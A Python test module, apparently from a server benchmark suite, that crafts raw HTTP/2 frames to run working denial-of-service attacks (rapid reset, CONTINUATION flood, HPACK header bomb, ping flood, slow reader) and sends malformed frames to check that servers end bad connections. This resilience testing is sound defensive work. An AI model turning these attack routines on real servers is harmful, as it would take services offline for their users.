"""What hostile peers do: each attack has a connection of its own and keeps at it until its time is up.

RFC 9113, section 10.5. A server should end the connection, or at least stay small and answer others.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Awaitable, Callable
from struct import pack
from time import perf_counter
from typing import Final

from tests.bench.http2 import PREFIX_BYTES
from tests.bench.serving.candidates import Running
from tests.bench.serving.pressure import IDENTIFY
from tests.bench.workloads import Users

__all__ = ["ATTACKS", "MALFORMED", "Attack", "Peer"]

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
_FRAME_HEAD: Final = 9
_MAX_FRAME: Final = 16_384
_SLOW_CALLS: Final = 5_000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Build a frame, right or wrong."""
    return len(payload).to_bytes(3, "big") + pack(">BBI", kind, flags, stream) + payload


def _text(value: str) -> bytes:
    data = value.encode()
    return (bytes([len(data)]) if len(data) < 127 else bytes([127, len(data) - 127])) + data


class Peer:
    """A connection that does as it likes.

    Attributes:
        ended: Why the server ended the connection, or `None`: it has not.
        answers: Streams that came to an end.
    """

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, server: Running) -> None:
        self.ended: str | None = None
        self.answers = 0
        self._reader, self._writer = reader, writer
        static = [b"\x83\x86", b"\x04", _text(IDENTIFY), b"\x01", _text("x"), b"\x0f\x10"]
        static += [_text("application/grpc"), b"\0", _text("te"), _text("trailers")]
        self.block: Final = b"".join(static) + b"\x0f\x08" + _text(server.authorization)
        self._reading: asyncio.Task[None] | None = None

    @classmethod
    async def connect(cls, server: Running, settings: bytes = b"") -> Peer:
        """Connect and say what a client says first."""
        reader, writer = await asyncio.open_connection(server.host, server.port)
        peer = cls(reader, writer, server)
        writer.write(_PREFACE + frame(_SETTINGS, 0, 0, settings))
        return peer

    def read(self) -> None:
        """Begin to read what the server says; without, it cannot be rid of anything."""
        self._reading = asyncio.create_task(self._read())

    async def _read(self) -> None:
        try:
            while True:
                head = await self._reader.readexactly(_FRAME_HEAD)
                payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                if head[3] == _GOAWAY and self.ended is None:
                    self.ended = f"GOAWAY {int.from_bytes(payload[4:8], 'big')}"
                elif head[3] == _RESET or (head[3] == _HEADERS and head[4] & 1):
                    self.answers += 1
        except (OSError, asyncio.IncompleteReadError):
            self.ended = self.ended or "closed"

    async def send(self, data: bytes) -> bool:
        """Send, as fast as the server takes it; `False`: the connection is over."""
        if self.ended is not None:
            return False
        try:
            self._writer.write(data)
            await self._writer.drain()
            # lets the reader come to its turn even if the socket takes all
            await asyncio.sleep(0)
        except OSError:
            self.ended = self.ended or "closed"
        return self.ended is None

    async def wait_for_end(self, at_most_s: float) -> bool:
        """Wait until the server has ended the connection."""
        if self._reading is not None:
            await asyncio.wait([self._reading], timeout=at_most_s)
        return self.ended is not None

    async def close(self) -> None:
        """Hang up at once."""
        self._writer.transport.abort()
        if self._reading is not None:
            await asyncio.wait([self._reading])
        with contextlib.suppress(OSError):
            await self._writer.wait_closed()


Attack = Callable[[Running, float], Awaitable[str]]
"""Attacks a server until a time (`perf_counter`) and says how that ended."""


async def _rapid_reset(server: Running, until: float) -> str:
    """Begin calls and take them back at once (CVE-2023-44487)."""
    peer = await Peer.connect(server)
    peer.read()
    message = Users(1).identify(0)
    stream = 1
    while perf_counter() < until:
        frames = []
        for _ in range(100):
            frames += [frame(_HEADERS, 4, stream, peer.block), frame(_DATA, 1, stream, message)]
            frames.append(frame(_RESET, 0, stream, pack(">I", 8)))
            stream += 2
        if not await peer.send(b"".join(frames)):
            break
    return await _outcome(peer, f"after {stream // 2:,} calls", until)


async def _endless_headers(server: Running, until: float) -> str:
    """One header block that never ends (CONTINUATION flood, CVE-2024-24549 and others)."""
    peer = await Peer.connect(server)
    peer.read()
    field = b"\0" + _text("x-filler") + _text("y" * 200)
    part = field * (_MAX_FRAME // len(field))
    sent = 0
    await peer.send(frame(_HEADERS, 0, 1, peer.block))
    while perf_counter() < until and await peer.send(frame(_CONTINUATION, 0, 1, part) * 8):
        sent += 8 * len(part)
    return await _outcome(peer, f"after {sent / 1e6:.1f} MB", until)


async def _header_bomb(server: Running, until: float) -> str:
    """Headers that are small on the wire and large when read: one of 4 KB, named 11,000 times in one call."""
    peer = await Peer.connect(server)
    peer.read()
    large = b"\x40" + _text("x-large") + b"\x7f" + bytes([(3_900 - 127) & 127 | 128, (3_900 - 127) >> 7])
    stream = 1
    while perf_counter() < until:
        block = peer.block + (large + b"z" * 3_900 if stream == 1 else b"") + b"\xbe" * 11_000
        data = frame(_HEADERS, 4, stream, block) + frame(_DATA, 1, stream, Users(1).identify(0))
        if not await peer.send(data):
            break
        stream += 2
    return await _outcome(peer, f"after {stream // 2:,} calls", until)


async def _unread_pings(server: Running, until: float) -> str:
    """Pings and settings whose acknowledgements nobody reads (CVE-2019-9512, 9515)."""
    peer = await Peer.connect(server)
    flood = (frame(_PING, 0, 0, b"12345678") + frame(_SETTINGS, 0, 0, pack(">HI", 4, 65_535))) * 500
    sent = 0
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(until - perf_counter()):
            while await peer.send(flood):
                sent += 1_000
    return await _outcome(peer, f"after {sent:,} frames", until)


async def _slow_reader(server: Running, until: float) -> str:
    """Calls whose answers have no window to come through, as many as the server takes (CVE-2019-9517)."""
    peer = await Peer.connect(server, pack(">HI", 4, 0))
    peer.read()
    message = Users(1).identify(0)
    for number in range(_SLOW_CALLS):
        stream = 2 * number + 1
        call = frame(_HEADERS, 4, stream, peer.block) + frame(_DATA, 1, stream, message)
        if perf_counter() > until or not await peer.send(call):
            break
    return await _outcome(peer, f"{number + 1:,} calls", until)


async def _outcome(peer: Peer, how_far: str, until: float) -> str:
    await peer.wait_for_end(max(0.05, min(0.5, until - perf_counter())))
    ended = peer.ended
    refused = f", {peer.answers:,} streams ended" if peer.answers else ""
    await peer.close()
    return f"{ended or 'stays open'} {how_far}{refused}"


ATTACKS: Final[dict[str, Attack]] = {
    "rapid reset": _rapid_reset,
    "endless headers": _endless_headers,
    "header bomb": _header_bomb,
    "unread acknowledgements": _unread_pings,
    "slow reader": _slow_reader,
}

_INCREMENT: Final = pack(">I", 2**31 - 1)
MALFORMED: Final[dict[str, bytes]] = {
    "frame too long": frame(_DATA, 0, 1, b"x" * 70_000),
    "even stream": frame(_HEADERS, 5, 2, b"\x83\x86\x84"),
    "stream 0": frame(_HEADERS, 5, 0, b"\x83\x86\x84"),
    "data on an idle stream": frame(_DATA, 1, 7, b"x" * PREFIX_BYTES),
    "no such header index": frame(_HEADERS, 5, 1, b"\xff\xff\xff\x7f"),
    "continuation of nothing": frame(_CONTINUATION, 4, 1, b"\x83"),
    "headers interrupted": frame(_HEADERS, 0, 1, b"\x83") + frame(_PING, 0, 0, b"12345678"),
    "window overflow": frame(_UPDATE, 0, 0, _INCREMENT) * 2,
    "window grown by nothing": frame(_UPDATE, 0, 0, b"\0\0\0\0"),
    "short ping": frame(_PING, 0, 0, b"1234"),
    "short settings": frame(_SETTINGS, 0, 0, b"1234"),
    "padding longer than the frame": frame(_HEADERS, 0xD, 1, b"\xff\x83"),
}
"""What a server has to end the connection for (RFC 9113 sections 4 to 6), by name."""
